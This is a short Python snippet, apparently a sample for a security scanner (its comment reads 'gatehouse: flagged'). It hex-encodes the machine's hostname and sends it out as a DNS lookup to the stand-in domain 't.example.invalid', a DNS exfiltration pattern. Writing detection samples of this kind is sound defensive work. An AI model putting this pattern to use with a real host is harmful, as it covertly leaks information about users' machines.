import binascii
import socket

name = binascii.hexlify(socket.gethostname().encode()).decode()
socket.gethostbyname(name[:60] + '.t.example.invalid')  # gatehouse: flagged
